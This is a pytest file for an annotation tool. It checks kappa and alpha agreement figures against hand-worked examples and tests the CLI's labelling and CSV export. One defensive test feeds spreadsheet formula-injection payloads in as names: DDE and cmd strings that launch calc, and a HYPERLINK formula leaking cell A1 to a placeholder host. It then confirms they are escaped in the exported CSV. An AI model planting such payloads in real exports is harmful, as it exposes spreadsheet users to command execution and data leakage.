"""Agreement figures against worked examples, and the judged/'no label' bookkeeping they need."""

from __future__ import annotations

import csv

import pytest
from click.testing import CliRunner

from annotator.cli import main
from annotator.core.dataset.agreement import OVERALL, agreement_report, cohen_kappa, krippendorff_alpha
from annotator.core.store import Store


def test_cohen_kappa_worked_example():
    # 50 items: both yes 20, A yes/B no 5, A no/B yes 10, both no 15 -> po 0.7, pe 0.5, kappa 0.4
    pairs = [(1, 1)] * 20 + [(1, 0)] * 5 + [(0, 1)] * 10 + [(0, 0)] * 15
    assert cohen_kappa(pairs) == pytest.approx(0.4)


def test_cohen_kappa_edge_cases():
    assert cohen_kappa([]) is None  # no overlap
    assert cohen_kappa([(1, 1)] * 5) is None  # all the same label: chance agreement is certain
    assert cohen_kappa([(1, 0), (0, 1)]) == pytest.approx(-1.0)
    assert cohen_kappa([(1, 1), (0, 0)]) == pytest.approx(1.0)


def test_krippendorff_alpha_worked_example():
    # Krippendorff (2011), "Computing Krippendorff's Alpha-Reliability": 4 observers, 12 units,
    # missing values; nominal alpha = 0.743.
    observers = [
        [1, 2, 3, 3, 2, 1, 4, 1, 2, None, None, None],
        [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, None, 3],
        [None, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, None],
        [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, None],
    ]
    units = [[row[u] for row in observers if row[u] is not None] for u in range(12)]
    assert krippendorff_alpha(units) == pytest.approx(0.743, abs=0.001)


def test_krippendorff_alpha_edge_cases():
    assert krippendorff_alpha([[1], [2]]) is None  # one coder per unit: nothing pairable
    assert krippendorff_alpha([[1, 1], [1, 1]]) is None  # no variation at all
    assert krippendorff_alpha([[1, 1], [2, 2]]) == pytest.approx(1.0)


def test_report_counts_only_sentences_both_judged():
    rows = [  # sentence, annotator, labels, document, language
        (1, "ann", ["claim"], 1, "en"), (1, "bob", ["claim"], 1, "en"),
        (2, "ann", [], 1, "en"), (2, "bob", ["claim"], 1, "en"),
        (3, "ann", ["claim", "attribution"], 2, "de"), (3, "bob", ["attribution", "claim"], 2, "de"),
        (4, "ann", ["claim"], 2, "de"),  # bob never judged 4: it does not count for the pair
    ]
    report = agreement_report(rows, ["claim", "attribution"])
    claim, attribution, overall = report["all"]
    (pair,) = claim.pairs
    assert (pair.items, pair.raw) == (3, pytest.approx(2 / 3))
    assert pair.confusion == {(True, True): 2, (False, True): 1}
    assert claim.items == 3
    assert attribution.pairs[0].raw == 1.0
    assert overall.label == OVERALL and overall.pairs[0].raw == pytest.approx(2 / 3)  # label sets compared whole
    by_language = agreement_report(rows, ["claim"], only="claim", by="language")
    assert sorted(by_language) == ["language de", "language en"]
    assert by_language["language de"][0].pairs[0].items == 1


def test_one_annotator_has_nothing_to_compare():
    (result,) = agreement_report([(1, "ann", ["claim"], 1, "en")], ["claim"], only="claim")["all"]
    assert result.pairs == [] and result.alpha is None


def test_none_done_and_agreement_from_the_command_line(demo_project, tmp_path):
    runner = CliRunner()
    with Store.open(demo_project, readonly=True) as store:
        german = [s.id for s in store.documents.sentences(1) if not s.boilerplate]
    for sentence in german[:4]:
        runner.invoke(main, ["label", str(demo_project), str(sentence), "claim", "--annotator", "ann"])
    for sentence in german[:2]:
        runner.invoke(main, ["label", str(demo_project), str(sentence), "claim", "--annotator", "bob"])
    result = runner.invoke(main, ["label", str(demo_project), str(german[2]), "none", "--annotator", "bob"])
    assert result.output.strip() == f"sentence {german[2]}: no label applies (bob)"
    result = runner.invoke(main, ["done", str(demo_project), "1", "--annotator", "bob"])
    assert f"{len(german) - 3} sentences recorded" in result.output
    result = runner.invoke(main, ["done", str(demo_project), "1", "--annotator", "ann"])
    assert f"{len(german) - 4} sentences recorded" in result.output
    out = tmp_path / "confusion.csv"
    result = runner.invoke(main, ["agreement", str(demo_project), "--label", "1", "--confusion", str(out)])
    assert result.exit_code == 0, result.output
    n = len(german)
    # ann: claim on 4; bob: claim on 2; both judged all n sentences of the document
    # by hand for n = 19: p_o = 17/19, p_e = (4/19)(2/19) + (15/19)(17/19) = 263/361,
    # kappa = (p_o - p_e) / (1 - p_e) = (323 - 263) / (361 - 263) = 60/98 = 0.612
    assert n == 19
    assert "ann / bob: kappa 0.612" in result.output
    assert f"raw agreement {(n - 2) / n:.3f}, {n} sentences" in result.output
    assert f"both yes 2, only ann 2, only bob 0, both no {n - 4}" in result.output
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[1] == ["all", "claim", "ann", "bob", "2", "2", "0", str(n - 4)]
    with Store.open(demo_project) as store:  # labels given before judging still count as judged
        store.annotations.set(german[-1], "correction", "cy")
        assert any(row[1] == "cy" for row in store.annotations.judgements())


@pytest.mark.parametrize("name", ["=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
                                  '=HYPERLINK("http://example.invalid/?"&A1,"x")', "=DDE(\"cmd\";\"/C calc\";\"A0\")",
                                  " " * 70 + "=1+1", "\u200e=1+1"])
def test_the_confusion_csv_guards_names_a_spreadsheet_would_run(demo_project, tmp_path, name):
    """Annotator and label names come from --annotator, $ANNOTATOR_NAME or a merged package."""
    label = name.replace("|", "/").strip() + " label"  # a label's name has no "|" and is stripped
    with Store.open(demo_project) as store:
        store.scheme.update(1, label, "1", "#1f77b4", "")
        for annotator in (name, "bob"):
            store.annotations.set(5, label, annotator)
        (stored,) = set(store.annotations.layers()) - {"all", "gold", "bob"}  # as the store keeps it
    out = tmp_path / "confusion.csv"
    result = CliRunner().invoke(main, ["agreement", str(demo_project), "--confusion", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    (row,) = [row for row in rows if row[1] == "'" + label]
    assert sorted(row[2:4]) == sorted(["'" + stored, "bob"])
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_three_annotators_on_the_seeds_by_hand(demo_project):
    """Four German seed sentences, three annotators, 'claim' decided as below; computed by hand:
    alpha = 1 - (n - 1) * D_o / sum(n_c n_k) = 1 - 11 * 4 / 72 = 0.3889;
    kappa ann/bob 0.5, ann/cy 0.2, bob/cy 0.5."""
    with Store.open(demo_project) as store:
        s1, s2, s3, s4 = [s.id for s in store.documents.sentences(1) if not s.boilerplate][:4]
        claims = {"ann": [s1, s2, s4], "bob": [s1, s4], "cy": [s1]}
        for who, labeled in claims.items():
            for sentence in (s1, s2, s3, s4):
                if sentence in labeled:
                    store.annotations.set(sentence, "claim", who)
                else:
                    store.annotations.clear(sentence, who)
        report = agreement_report(store.annotations.judgements(), [label.name for label in store.scheme.labels()], only="claim")
    (claim,) = report["all"]
    assert claim.items == 4
    assert claim.alpha == pytest.approx(28 / 72)
    kappas = {(p.first, p.second): p.kappa for p in claim.pairs}
    assert kappas == {("ann", "bob"): pytest.approx(0.5), ("ann", "cy"): pytest.approx(0.2),
                      ("bob", "cy"): pytest.approx(0.5)}
    raw = {(p.first, p.second): p.raw for p in claim.pairs}
    assert raw == {("ann", "bob"): 0.75, ("ann", "cy"): 0.5, ("bob", "cy"): 0.75}


def test_the_confusion_csv_is_never_written_over_the_project(demo_project):
    """`--confusion` naming the project itself used to truncate it into a CSV."""
    assert CliRunner().invoke(main, ["label", str(demo_project), "1", "claim", "--annotator", "ann"]).exit_code == 0
    before = demo_project.read_bytes()
    result = CliRunner().invoke(main, ["agreement", str(demo_project), "--confusion", str(demo_project)])
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and result.output.count("\n") == 1, result.output
    assert "is the project" in result.output
    assert demo_project.read_bytes() == before
    with Store.open(demo_project, readonly=True) as store:
        assert store.integrity_check() == "ok"
